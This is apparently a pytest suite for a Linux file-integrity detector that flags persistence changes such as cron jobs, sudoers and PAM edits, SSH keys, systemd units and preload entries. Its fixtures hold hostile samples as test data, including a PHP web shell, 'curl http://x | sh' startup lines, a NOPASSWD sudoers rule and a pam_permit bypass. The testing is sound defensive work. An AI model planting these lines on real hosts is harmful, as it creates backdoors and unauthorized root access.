"""Changed files: what is silent, what is found, with which evidence, and that it clears."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest

from dio_daemon.detect.integrity import files as module
from dio_daemon.detect.integrity.inotify import Inotify
from dio_daemon.detect.integrity.runs import is_locked
from tests.unit.integrity.conftest import FakeHost

ADDED = (
    ("/etc/cron.d/evil", "* * * * * root /tmp/x\n", "cron_changed", "high"),
    ("/var/spool/cron/crontabs/ann", "@reboot true\n", "cron_changed", "medium"),
    ("/etc/sudoers.d/evil", "ann ALL=(ALL) NOPASSWD: ALL\n", "sudoers_changed", "critical"),
    (
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== m@x\n",
        "authorized_keys_changed",
        "high",
    ),
    ("/home/ann/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2E= m@x\n", "authorized_keys_changed", "high"),
    ("/etc/systemd/system/evil.service", "[Service]\nExecStart=/bin/true\n", "systemd_unit_changed", "high"),
    ("/etc/systemd/system/ssh.service.d/a.conf", "[Service]\n", "systemd_unit_changed", "high"),
    ("/home/ann/.config/systemd/user/a.service", "[Service]\n", "systemd_unit_changed", "medium"),
    ("/etc/rc.local", "#!/bin/sh\n", "init_script_changed", "high"),
    ("/etc/init.d/evil", "#!/bin/sh\n", "init_script_changed", "high"),
    ("/etc/profile.d/evil.sh", "curl http://x | sh\n", "shell_startup_changed", "critical"),
    ("/home/ann/.bash_profile", "true\n", "shell_startup_changed", "low"),
    ("/etc/xdg/autostart/evil.desktop", "[Desktop Entry]\n", "autostart_changed", "medium"),
    ("/etc/udev/rules.d/99-evil.rules", 'RUN+="/bin/x"\n', "udev_rule_changed", "high"),
    ("/etc/ld.so.preload", "/lib/evil.so\n", "ld_preload_changed", "critical"),
    ("/usr/local/lib/python3.11/dist-packages/evil.pth", "import os\n", "python_hook_changed", "high"),
    ("/etc/apt/apt.conf.d/99evil", 'APT::Update::Pre-Invoke {"x";};\n', "apt_config_changed", "high"),
    ("/etc/modules-load.d/evil.conf", "evil\n", "kernel_module_config_changed", "high"),
    ("/etc/update-motd.d/00-evil", "#!/bin/sh\n", "login_script_changed", "high"),
    ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "pam_changed", "critical"),
    ("/var/www/html/a/x.php", '<?php system($_GET["c"]);', "web_shell", "high"),
    ("/home/ann/.gitconfig", "[core]\npager = curl http://x | sh\n", "tool_config_changed", "high"),
    ("/var/lib/dpkg/info/x.postinst", "#!/bin/sh\n", "maintainer_script_changed", "high"),
    ("/usr/lib/x86_64-linux-gnu/libx.so.1", "\x7fELF", "system_library_changed", "medium"),
    ("/run/user/1000/systemd/transient/x.timer", "[Timer]\n", "systemd_unit_changed", "medium"),
    ("/etc/apparmor.d/disable/x", "", "security_config_changed", "medium"),
    ("/usr/bin/evil", "\x7fELF", "system_binary_changed", "medium"),
)


NOT_ROOT = os.getuid() or 1000
"""Whom a test's file may belong to, whoever runs it."""


def test_the_first_look_is_silent_and_kept(fake: FakeHost) -> None:
    watch = fake.watch()
    assert fake.run(watch) == []
    assert [event[0] for event in fake.recorded] == ["integrity_baseline"]
    fake.baseline.save(at_once=True)
    again = fake.watch()
    assert fake.run(again) == [] and len(fake.recorded) == 1


@pytest.mark.parametrize(("path", "text", "type_", "severity"), ADDED)
def test_what_is_added_is_found_and_clears(
    fake: FakeHost, path: str, text: str, type_: str, severity: str
) -> None:
    watch = fake.watch()
    fake.run(watch)
    file = fake.put(path, text)
    (found,) = fake.run(watch)
    assert (found.type, found.severity, found.subject) == (type_, severity, path)
    assert path in found.summary and found.why and found.next and found.technique
    assert found.evidence["change"] == "added" and found.evidence["package"] is None
    assert fake.run(watch) == [found]
    file.unlink()
    assert fake.run(watch) == []


def test_changed_while_the_agent_was_down(fake: FakeHost) -> None:
    """Every kind of change is found after a start, stays the same threat, and clears when it is undone."""
    fake.run(fake.watch())
    fake.baseline.save(at_once=True)
    fake.put("/etc/crontab", "17 * * * * root /usr/local/bin/x\n")
    fake.path("/etc/cron.d/e2scrub").unlink()
    fake.path("/etc/sudoers").chmod(0o666)
    changed, removed, mode = fake.run(fake.watch())[1], *fake.run(fake.watch())[::2]
    assert removed.subject == "/etc/cron.d/e2scrub" and removed.severity == "low"
    assert changed.subject == "/etc/crontab" and changed.evidence["before"]["sha256"]
    assert "-17 * * * * root run-parts" in changed.evidence["diff"]
    assert "+17 * * * * root /usr/local/bin/x" in changed.evidence["diff"]
    assert mode.severity == "high" and mode.evidence["change"] == "attributes"
    assert (mode.evidence["before"]["mode"], mode.evidence["after"]["mode"]) == ("0440", "0666")
    fake.put("/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
    fake.put("/etc/cron.d/e2scrub", "30 3 * * 0 root /sbin/e2scrub_all\n")
    fake.path("/etc/sudoers").chmod(0o440)
    assert fake.run(fake.watch()) == []


def test_where_a_link_leads_and_whose_a_file_is_are_said(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    link = fake.path("/etc/systemd/system/multi-user.target.wants/x.service")
    link.parent.mkdir(parents=True)
    link.symlink_to("/opt/x.service")
    link.with_name("y.service").symlink_to("/tmp/y.service")
    fake.put("/etc/passwd", f"root:x:0:0::/root:/bin/sh\nann:x:{NOT_ROOT}:1::/home/ann:/bin/sh\n")
    job = fake.put("/var/spool/cron/atjobs/a0001", "true\n")
    os.chown(job, NOT_ROOT, -1)
    found = {each.subject: each.summary for each in fake.run(watch)}
    assert found["/etc/systemd/system/multi-user.target.wants/x.service"].endswith(
        ", a link to /opt/x.service"
    )
    assert found["/etc/systemd/system/multi-user.target.wants/y.service"].endswith(
        ", a link to /tmp/y.service (it leads into a temporary folder)"
    )
    assert found["/var/spool/cron/atjobs/a0001"].endswith("/a0001, of user ann")


def test_touched_or_rewritten_alike_is_no_change(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    os.utime(fake.path("/etc/crontab"), (1, 1))
    text = fake.path("/etc/sudoers").read_bytes()
    fake.path("/etc/sudoers").unlink()
    fake.put("/etc/sudoers", text, 0o440)
    assert fake.run(watch) == []


def test_what_dpkg_installed_is_recorded_only(fake: FakeHost) -> None:
    """Files as their package has them, at any time; others when dpkg was at work."""
    watch = fake.watch()
    fake.run(watch)
    unit = "[Service]\nExecStart=/usr/sbin/nginx\n"
    fake.put("/usr/lib/systemd/system/nginx.service", unit)
    fake.put("/etc/cron.d/nginx", "@daily root true\n")
    fake.package(
        "nginx", {"/lib/systemd/system/nginx.service": unit}, {"/etc/cron.d/nginx": "@daily root true\n"}
    )
    assert fake.run(watch) == []
    assert fake.recorded[-1][0] == "known_changes" and fake.recorded[-1][2]["reason"] == "package"
    fake.dpkg_ran()
    fake.put("/etc/pam.d/common-auth", "auth required pam_unix.so\n")
    assert fake.run(watch) == []


def test_a_packages_file_that_is_not_the_packages(fake: FakeHost) -> None:
    """Neither dpkg being at work nor a known name vouches for content that no package has."""
    fake.put("/usr/bin/ls", "good")
    fake.package("coreutils", {"/bin/ls": "good"})
    watch = fake.watch()
    fake.run(watch)
    fake.dpkg_ran()
    fake.put("/usr/bin/ls", "trojan")
    (found,) = fake.run(watch)
    assert (found.type, found.severity) == ("package_file_changed", "high")
    assert "coreutils" in found.summary and found.evidence["package"] == "coreutils"
    fake.put("/usr/bin/ls", "good")
    assert fake.run(watch) == []


def test_an_edited_conffile_is_found(fake: FakeHost) -> None:
    fake.put("/etc/ssh/sshd_config", "PermitRootLogin no\n")
    fake.package("openssh-server", {}, {"/etc/ssh/sshd_config": "PermitRootLogin no\n"})
    watch = fake.watch()
    fake.run(watch)
    fake.put("/etc/ssh/sshd_config", "PermitRootLogin yes\n")
    (found,) = fake.run(watch)
    assert found.type == "sshd_config_changed" and found.evidence["package"] == "openssh-server"


def test_changes_wait_while_dpkg_works(fake: FakeHost) -> None:
    """While a lock is held nothing is judged; once it is free, what changed meanwhile was dpkg's."""
    watch = fake.watch()
    fake.run(watch)
    fake.hold_lock()
    watch.step()
    fake.put("/etc/cron.d/new", "x\n")
    assert fake.run(watch) == [] and len(fake.recorded) == 1
    fake.hold_lock(False)
    assert fake.run(watch) == [] and fake.recorded[-1][0] == "known_changes"


def test_changes_do_not_wait_for_ever(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    fake.put("/etc/cron.d/new", "x\n")
    fake.clock.ahead_s = 3600  # the lock was taken an hour after the change
    fake.hold_lock()
    assert fake.run(watch) == []
    fake.clock.monotonic_s += module.MOST_BUSY_S
    assert [found.subject for found in fake.run(watch)] == ["/etc/cron.d/new"]


def test_announced_changes_are_recorded(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    fake.window = True
    fake.put("/etc/cron.d/new", "x\n")
    assert fake.run(watch) == [] and fake.recorded[-1][2]["reason"] == "announced"
    fake.window = False
    assert fake.run(watch) == []
    fake.put("/etc/cron.d/new", "y\n")
    assert len(fake.run(watch)) == 1
    assert watch.accept() == 1 and fake.run(watch) == []


@pytest.mark.parametrize(
    ("units", "links"),
    [
        ("system", "/etc/systemd/system"),
        ("user", "/etc/systemd/user"),
        ("user", "/home/ann/.config/systemd/user"),
    ],
)
def test_enabling_a_packages_unit_is_ordinary(fake: FakeHost, units: str, links: str) -> None:
    """A link to a unit as its package has it; to any other file it is a finding."""
    unit = f"/usr/lib/systemd/{units}/a.service"
    fake.put(unit, "[Service]\n")
    fake.package("a", {unit: "[Service]\n"})
    fake.path(f"{links}/multi-user.target.wants").mkdir(parents=True)
    watch = fake.watch()
    fake.run(watch)
    link = fake.path(f"{links}/multi-user.target.wants/a.service")
    link.symlink_to(unit.removeprefix("/usr"))
    assert fake.run(watch) == []
    link.unlink()
    assert fake.run(watch) == []
    link.symlink_to("/opt/evil.service")
    (found,) = fake.run(watch)
    assert found.type == "systemd_unit_changed" and found.evidence["after"]["target"] == "/opt/evil.service"


def test_a_new_home_as_skel_has_it(fake: FakeHost) -> None:
    fake.put("/etc/skel/.bashrc", "# skel\n")
    watch = fake.watch()
    fake.run(watch)
    fake.put("/home/bob/.bashrc", "# skel\n")
    fake.put("/home/bob/.profile", "evil &\n")
    assert [found.subject for found in fake.run(watch)] == ["/home/bob/.profile"]
    for file in fake.path("/home/bob").iterdir():
        file.unlink()
    fake.path("/home/bob").rmdir()
    assert fake.run(watch) == []


def test_secrets_stay_here(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    key = "AAAAC3NzaC1lZDI1NTE5AAAAIGF0dGFja2Vya2V5YXR0YWNrZXJrZXlhdHRhY2tl"
    fake.put("/root/.ssh/authorized_keys", f'command="x" ssh-ed25519 {key} mallory@evil\n')
    fake.put("/etc/cron.d/backup", "0 1 * * * root mysqldump --password=Hunter2 -u root\nAPI_TOKEN=abc123\n")
    cron, keys = fake.run(watch)
    assert "Hunter2" not in str(cron.evidence) and "abc123" not in str(cron.evidence)
    assert "mysqldump" in cron.evidence["diff"]
    assert key not in str(keys.evidence) and "mallory@evil" in keys.evidence["diff"]
    assert "SHA256:" in keys.evidence["diff"]


def test_odd_files_do_no_harm(fake: FakeHost) -> None:
    """FIFOs, loops, names that are no text, huge and unreadable files, folders where files should be."""
    watch = fake.watch()
    fake.run(watch)
    cron = fake.path("/etc/cron.d")
    os.mkfifo(cron / "fifo")
    (cron / "loop").symlink_to("loop")
    (cron / "folder").mkdir()
    (cron / os.fsdecode(b"b\xffd\nname")).write_bytes(b"\0\xff")
    with (cron / "huge").open("wb") as stream:
        stream.truncate(1 << 40)
    fake.put("/etc/cron.d/secret", "x", 0)
    found = {item.subject: item for item in fake.run(watch)}
    assert {os.fsencode(path).rsplit(b"/")[-1] for path in found} == {
        b"fifo", b"loop", b"b\xffd\nname", b"huge", b"secret"
    }  # fmt: skip
    assert found["/etc/cron.d/fifo"].evidence["after"]["kind"] == "other"
    assert found["/etc/cron.d/huge"].evidence["after"]["sha256"] is None
    assert all("\n" not in item.summary for item in found.values())
    fake.baseline.save(at_once=True)
    assert fake.baseline.problem == ""


def test_names_that_nothing_loads(fake: FakeHost) -> None:
    watch = fake.watch()
    fake.run(watch)
    for name in (".new.swp", "new~", "new.dpkg-new", "sedAbC123", "4913", "new.ucf-dist", "tmp.AbCdEf"):
        fake.put(f"/etc/cron.d/{name}", "x")
    assert fake.run(watch) == []


def test_a_job_for_later_is_told_once(fake: FakeHost) -> None:
    """With what it runs, not with the number that is counted on."""
    fake.put("/var/spool/cron/atjobs/.SEQ", "00000\n")
    watch = fake.watch()
    assert fake.run(watch) == []
    fake.put("/var/spool/cron/atjobs/.SEQ", "00001\n")
    fake.put("/var/spool/cron/atjobs/a0000101c8bbaf", "#!/bin/sh\n", 0o700)
    assert [found.subject for found in fake.run(watch)] == ["/var/spool/cron/atjobs/a0000101c8bbaf"]


def test_network_filesystems_are_not_entered(fake: FakeHost) -> None:
    (fake.root / "proc/1/mountinfo").write_text(
        "1 0 8:1 / / rw - ext4 /dev/sda1 rw\n2 1 0:50 / /home rw - nfs4 server:/home rw\n"
    )
    watch = fake.watch()
    fake.run(watch)
    fake.put("/home/ann/.bashrc", "changed\n")
    fake.put("/root/.profile", "changed\n")
    assert [found.subject for found in fake.run(watch)] == ["/root/.profile"]


def test_a_damaged_baseline_begins_anew(fake: FakeHost) -> None:
    fake.run(fake.watch())
    for damage in (b"", b"x", b"\x1f\x8b\x08\0", b"{}"):
        (fake.root / "state/integrity.jsonl.gz").write_bytes(damage)
        assert fake.run(fake.watch()) == []


def test_the_kernel_tells_at_once(fake: FakeHost) -> None:
    """With inotify a change is found without a look at everything, also in folders made step by step."""
    notify = Inotify()
    try:
        watch = fake.watch(notify=notify)
        fake.run(watch)
        for path in ("/etc/cron.d/new", "/home/ann/.config/systemd/user/new.service"):
            fake.put(path, "x\n")
            for _ in range(8):  # each new folder is one more expansion
                fake.clock.monotonic_s += 1.0
                found = {item.subject for item in watch.step()}
            assert path in found
        fake.path("/etc/cron.d/new").unlink()
        for _ in range(3):
            fake.clock.monotonic_s += 1.0
            found = {item.subject for item in watch.step()}
        assert "/etc/cron.d/new" not in found
    finally:
        notify.close()


def test_hashes_are_those_of_the_content(fake: FakeHost, tmp_path: Path) -> None:
    watch = fake.watch()
    fake.run(watch)
    fake.put("/etc/cron.d/new", "x\n")
    (found,) = fake.run(watch)
    assert found.evidence["after"]["sha256"] == hashlib.sha256(b"x\n").hexdigest()
    assert found.evidence["diff"] == "@@ -0,0 +1 @@\n+x"


def test_a_lock_of_another_process_is_seen(tmp_path: Path) -> None:
    """The kind of lock that dpkg and apt take, held by a process of its own."""
    lock = tmp_path / "lock"
    lock.touch()
    hold = "import fcntl, sys; f = open(sys.argv[1], 'r+'); fcntl.lockf(f, fcntl.LOCK_EX)"
    hold += "; print('held'); sys.stdin.read()"
    command = [sys.executable, "-u", "-c", hold, str(lock)]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as holder:
        assert holder.stdout is not None and holder.stdin is not None
        assert holder.stdout.readline() == "held\n"
        assert is_locked(str(lock))
        holder.stdin.close()
    assert not is_locked(str(lock)) and not is_locked(str(tmp_path / "none"))


def test_what_an_upgrade_removed_is_known_after_a_reboot_in_the_middle_of_judging_it(fake: FakeHost) -> None:
    """The baseline was written after the upgrade, and before all that it had changed was judged."""
    paths = [f"/usr/bin/tool{number}" for number in range(module.STEP_JUDGED * 3)]
    for path in paths:
        fake.put(path, "x")
    watch = fake.watch()
    assert fake.run(watch) == []
    judged_at = fake.baseline.memory[module.JUDGED_AT]
    fake.dpkg_ran(begin_s=0, end_s=0)
    for path in paths:
        fake.path(path).unlink()
    fake.clock.ahead_s += 30
    fake.clock.monotonic_s += 61
    watch.step()
    watch.step()
    fake.baseline.save(at_once=True)
    assert fake.baseline.memory[module.JUDGED_AT] == judged_at
    fake.clock.ahead_s += 30
    fake.away = (judged_at, fake.clock.now().timestamp())
    again = fake.watch()
    assert [fake.run(again) for _ in range(4)] == [[]] * 4
    assert fake.baseline.memory[module.JUDGED_AT] > judged_at
    assert not any(path in fake.baseline.files for path in paths)
